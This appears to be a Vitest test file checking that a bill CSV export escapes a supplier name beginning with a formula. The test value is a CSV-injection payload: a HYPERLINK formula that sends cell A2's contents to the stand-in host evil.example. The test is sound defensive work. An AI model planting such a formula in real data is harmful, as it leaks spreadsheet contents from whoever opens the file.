import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Caller, caller } from '../../test/admin-client';
import { createCompany } from '../../test/factories';
import { createTestApp, type TestApp } from '../../test/test-app';

let t: TestApp;
let finance: Caller;
beforeAll(async () => {
  t = await createTestApp();
  finance = await caller(t.app, 'finance');
});
afterAll(() => t.close());

describe('the bill CSV', () => {
  it('a company name that starts like a formula is written as text', async () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
    const supplier = await createCompany(t.db, { kind: 'supplier', name });
    const created = await finance('POST', '/api/v1/bill', {
      companyId: supplier.id,
      periodStart: '2020-01-01',
      periodEnd: '2020-01-31',
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await finance('GET', `/api/v1/bill/${created.json().data.billId}/csv`);
    expect(csv.statusCode).toBe(200);
    const total = csv.body.trim().split('\n').at(-1);
    expect(total).toBe(
      `${created.json().data.billId},"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")",2020-01-01,2020-01-31,total,,,,0,0.00`,
    );
  });
});
